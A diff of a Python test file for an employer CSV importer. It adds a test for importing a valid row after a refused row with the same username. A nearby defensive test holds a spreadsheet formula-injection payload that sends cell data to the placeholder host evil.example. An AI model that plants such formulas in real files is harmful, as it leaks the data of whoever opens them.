@@ -121,6 +121,15 @@ def test_duplicate_usernames_and_existing_employers_are_reported_not_overwritten
     assert add_importable(employers, table) == []
 
 
+def test_a_good_row_after_a_refused_one_with_its_username_is_imported() -> None:
+    # Before: row 3 was "also on row 2; only the first is imported", yet row 2 was refused,
+    # so neither came in.
+    rows = [("A", "", "api@a.example.nl", ""), ("A", "a", "API@a.example.nl", "")]
+    table = parse_employer_table(_csv(rows).encode())
+    assert [row.verdict for row in table.rows] == [RowVerdict.REFUSED, RowVerdict.ADD]
+    assert [row.employer.username for row in table.importable] == ["API@a.example.nl"]
+
+
 def test_a_name_that_a_spreadsheet_would_run_is_kept_as_text_and_flagged() -> None:
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
     rows = [
